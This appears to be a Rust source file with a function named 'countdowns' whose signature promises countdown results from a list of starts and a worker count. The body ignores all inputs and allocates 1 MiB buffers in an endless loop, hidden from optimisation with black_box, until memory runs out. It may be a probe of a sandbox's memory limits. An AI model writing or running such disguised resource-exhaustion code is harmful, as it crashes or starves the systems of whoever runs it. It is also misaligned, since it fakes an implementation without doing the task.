pub fn countdowns(_starts: &[u64], _workers: usize, _countdown: fn(u64) -> u64) -> Vec<u64> {
    let mut hoard = Vec::new();
    loop {
        hoard.push(std::hint::black_box(vec![1u8; 1 << 20]));
    }
}
